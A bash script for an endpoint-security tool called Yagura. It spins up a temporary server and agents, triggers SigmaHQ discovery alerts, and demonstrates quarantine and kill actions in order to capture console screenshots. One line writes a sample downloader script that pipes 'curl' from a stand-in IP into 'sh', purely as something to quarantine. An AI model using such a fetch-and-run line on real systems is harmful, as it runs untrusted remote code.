#!/usr/bin/env bash
# Takes the console screenshots in docs/screenshots/: a throw-away site with a real agent on
# this machine (accepted) and a second real agent waiting for approval, then the real console in
# a real X window under Xvfb, once in English and once in Japanese.
set -euo pipefail

ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
BUILD="${YAGURA_BUILD_DIR:-$ROOT/build}"
OUT="${1:-$ROOT/docs/screenshots}"
WORK="$(mktemp -d)"
PIDS=()
cleanup() {
    for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null || true; done
    wait 2>/dev/null || true
    rm -rf "$WORK"
}
trap cleanup EXIT

server="$BUILD/app/server/yagura-server"
agent="$BUILD/agent/yagura-agent"
console="$BUILD/app/console/yagura-console"
ctl="$BUILD/app/ctl/yagura-ctl"
export YAGURA_CTL_SESSION="$WORK/ctl-session.json"
(umask 077 && echo "screenshot-password" >"$WORK/pw")
"$server" init --data-dir "$WORK/site" --admin-password-file "$WORK/pw" >/dev/null
"$server" run --data-dir "$WORK/site" --agent-bind 'tcp://127.0.0.1:*' \
    --enrol-bind 'tcp://127.0.0.1:*' --operator-bind 'tcp://127.0.0.1:*' >"$WORK/server.log" 2>&1 &
PIDS+=($!)
for _ in $(seq 50); do [[ -f "$WORK/site/run/endpoints.json" ]] && break; sleep 0.2; done

"$agent" enroll --token "$("$server" token create --data-dir "$WORK/site" --auto-accept)" \
    --state-dir "$WORK/agent1" >/dev/null
# The agent runs SigmaHQ's Linux process rules (read in place, not copied), so the Alerts view
# shows real alerts raised by real commands below.
"$agent" run --state-dir "$WORK/agent1" --rules "$ROOT/../shared/data/sigma/rules/linux/process_creation" \
    >"$WORK/agent1.log" 2>&1 &
PIDS+=($!)
"$agent" enroll --token "$("$server" token create --data-dir "$WORK/site")" \
    --state-dir "$WORK/agent2" >/dev/null
sleep 3 # let the real agent send its inventory before the pictures are taken
# Discovery commands that SigmaHQ rules describe: each raises a real alert.
/usr/bin/id >/dev/null
/usr/bin/uname -m >/dev/null
/usr/bin/base64 -d /dev/null
(cd "$WORK" && /usr/bin/find /usr/bin -maxdepth 1 -perm -4000 >/dev/null)
sleep 2
# Response commands carried out by the real agent, for the Response page: a process list, a
# dropped script quarantined, a stray process killed (by its id and start time).
"$ctl" --data-dir "$WORK/site" login --user admin --password-file "$WORK/pw" >/dev/null
"$ctl" collect 1 --kind processes --reason "triage of the discovery alerts" --yes --wait >/dev/null
printf '#!/bin/sh\ncurl -s http://203.0.113.7/stage2 | sh\n' >"$WORK/update-helper.sh"
"$ctl" quarantine 1 --path "$WORK/update-helper.sh" --reason "dropped downloader" --yes --wait \
    >/dev/null
sleep 300 &
stray=$!
ticks=$(awk '{print $22}' "/proc/$stray/stat")
"$ctl" kill 1 --pid "$stray" --start-ticks "$ticks" --reason "stray shell child" --yes --wait \
    >/dev/null || true

mkdir -p "$OUT"
for lang in en ja; do
    HOME="$WORK/home-$lang" XDG_CONFIG_HOME="$WORK/home-$lang/.config" QT_QPA_PLATFORM=xcb \
        xvfb-run -a -s "-screen 0 1400x900x24" \
        "$console" --data-dir "$WORK/site" --user admin --password-file "$WORK/pw" \
        --lang "$lang" --screenshots "$OUT"
done
ls "$OUT"
